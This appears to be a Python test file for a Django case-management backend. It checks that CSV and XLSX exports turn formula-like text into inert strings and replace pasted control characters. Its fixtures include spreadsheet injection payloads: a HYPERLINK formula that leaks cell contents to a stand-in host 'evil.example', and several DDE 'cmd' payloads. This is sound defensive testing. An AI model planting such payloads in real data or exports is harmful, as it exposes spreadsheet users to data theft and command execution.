"""Text typed into a case never becomes a live formula in a CSV or XLSX export."""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any

import openpyxl
import pytest
import time_machine
from openpyxl import Workbook

from backend.accounts.models import Role
from backend.reports.export_files import xlsx_row
from backend.reports.exports import Column, csv_stream
from tests.factories import UserFactory
from tests.reports.conftest import NOW, City, _case, opened, step
from tests.reports.test_exports import body, export

pytestmark = pytest.mark.django_db

ADDRESS = '=HYPERLINK("http://evil.example/?leak="&A1,"Chi tiết")'
INSPECTOR = "+cmd|' /C calc'!A0"
NOTE = "@SUM(1+1)*cmd|' /C calc'!A0"
SIGNER_NUMBER = "-2+3+cmd|' /C calc'!A0"


@pytest.fixture
def planted(city: City, ward_a: Any, leader_a: Any) -> Any:
    """A case of ward A whose typed fields all start like formulas."""
    inspector = UserFactory(
        username="planter", full_name=INSPECTOR, role=Role.INSPECTOR, wards=[ward_a]
    )
    case = _case(
        ward_a,
        inspector,
        "2026-03-01",
        "suspended",
        "2026-03-20",
        address=ADDRESS,
        assigned_inspector=inspector,
    )
    opened(case, inspector, "2026-03-03")
    step(case, leader_a, "detected", "suspended", "2026-03-03", due="2026-03-03", on_time=True,
         document={"type": "MBB01", "number": SIGNER_NUMBER, "date": "2026-03-03"},
         note=NOTE)  # fmt: skip
    return case


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "".join(
            archive.read(name).decode()
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
        )


@time_machine.travel(NOW, tick=False)
def test_xlsx_export_writes_formula_like_text_as_apostrophed_string_cells(
    planted: Any, auditor: Any
) -> None:
    response = export(auditor, "cases", "xlsx")
    assert response.status_code == 200
    data = body(response)
    # No cell of either sheet is a formula.
    assert "<f>" not in _sheet_xml(data) and "<f " not in _sheet_xml(data)
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    cases = workbook["Hồ sơ vi phạm"]
    header = [c.value for c in cases[1]]
    row = next(r for r in cases.iter_rows(min_row=2) if r[0].value == planted.code)
    address = row[header.index("Địa chỉ")]
    assert (address.value, address.data_type) == ("'" + ADDRESS, "s")
    inspector = row[header.index("Cán bộ phụ trách")]
    assert (inspector.value, inspector.data_type) == ("'" + INSPECTOR, "s")
    # Numbers stay numbers.
    latitude = row[header.index("Vĩ độ (WGS 84)")]
    assert latitude.data_type == "n" and latitude.value == pytest.approx(10.77)
    assert row[header.index("Số sự kiện")].value == 2

    events = workbook["Sự kiện"]
    header = [c.value for c in events[1]]
    rows = [r for r in events.iter_rows(min_row=2) if r[0].value == planted.code]
    note = rows[1][header.index("Ghi chú")]
    assert (note.value, note.data_type) == ("'" + NOTE, "s")
    number = rows[1][header.index("Số văn bản")]
    assert (number.value, number.data_type) == ("'" + SIGNER_NUMBER, "s")
    assert rows[1][header.index("Số thứ tự trong chuỗi")].data_type == "n"


@time_machine.travel(NOW, tick=False)
def test_csv_exports_prefix_formula_like_text_with_an_apostrophe(
    planted: Any, city: City, auditor: Any
) -> None:
    cases = list(
        csv.DictReader(io.StringIO(body(export(auditor, "cases", "csv")).decode("utf-8-sig")))
    )
    row = next(r for r in cases if r["Mã hồ sơ"] == planted.code)
    assert row["Địa chỉ"] == "'" + ADDRESS
    assert row["Cán bộ phụ trách"] == "'" + INSPECTOR
    assert float(row["Vĩ độ (WGS 84)"]) == pytest.approx(10.77)
    # Text that starts with a letter or digit is left exactly as typed.
    assert next(r for r in cases if r["Mã hồ sơ"] == city.a1.code)["Địa chỉ"] == "1 Lê Lợi"

    events = list(
        csv.DictReader(io.StringIO(body(export(auditor, "events", "csv")).decode("utf-8-sig")))
    )
    step_row = [r for r in events if r["Mã hồ sơ"] == planted.code][1]
    assert step_row["Ghi chú"] == "'" + NOTE
    assert step_row["Số văn bản"] == "'" + SIGNER_NUMBER


def test_every_formula_trigger_is_neutralised_but_numbers_are_not() -> None:
    columns = [Column("t", "Text"), Column("i", "Int", "int"), Column("r", "Real", "real")]
    texts = ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "1 Lê Lợi", "", "'=already"]
    rows = [[text, -5, -2.5] for text in texts]
    lines = "".join(csv_stream(columns, iter([list(r) for r in rows]))).lstrip("\ufeff")
    parsed = list(csv.reader(io.StringIO(lines)))[1:]
    assert [r[0] for r in parsed] == [
        "'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", "1 Lê Lợi", "", "'=already",
    ]  # fmt: skip
    assert all(r[1:] == ["-5", "-2.5"] for r in parsed)

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("t")
    for row in rows:
        sheet.append(xlsx_row(sheet, columns, list(row)))
    sheet.append(xlsx_row(sheet, columns, ["#N/A", None, None]))
    out = io.BytesIO()
    workbook.save(out)
    read = openpyxl.load_workbook(io.BytesIO(out.getvalue()))["t"]
    cells = list(read.iter_rows())
    assert [r[0].value or "" for r in cells[:-1]] == [
        "'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", "1 Lê Lợi", "", "'=already",
    ]  # fmt: skip
    assert all(r[0].data_type == "s" for r in cells[:-1] if r[0].value)
    # Negative numbers stored as numbers stay numbers.
    assert all((r[1].value, r[2].value) == (-5, -2.5) for r in cells[:-1])
    assert all(r[1].data_type == r[2].data_type == "n" for r in cells[:-1])
    # Text openpyxl would take for an error value is text too.
    assert (cells[-1][0].value, cells[-1][0].data_type) == ("#N/A", "s")


# A C0 control, DEL, a C1 control and a non-character: every one that
# backend.core.control_characters refuses on input is replaced on output.
PASTED = ["\x0b", "\x7f", "\x85", "\uffff"]


@time_machine.travel(NOW, tick=False)
@pytest.mark.parametrize("char", PASTED, ids=[f"U+{ord(c):04X}" for c in PASTED])
def test_a_pasted_control_character_does_not_break_the_xlsx_export(
    city: City, auditor: Any, char: str
) -> None:
    city.a3.address = f"12{char}Nguyễn Huệ"
    city.a3.save()
    response = export(auditor, "cases", "xlsx")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(body(response)))["Hồ sơ vi phạm"]
    addresses = {r[0]: r[10] for r in sheet.iter_rows(min_row=2, values_only=True)}
    assert addresses[city.a3.code] == "12\ufffdNguyễn Huệ"
    assert addresses[city.a1.code] == "1 Lê Lợi"
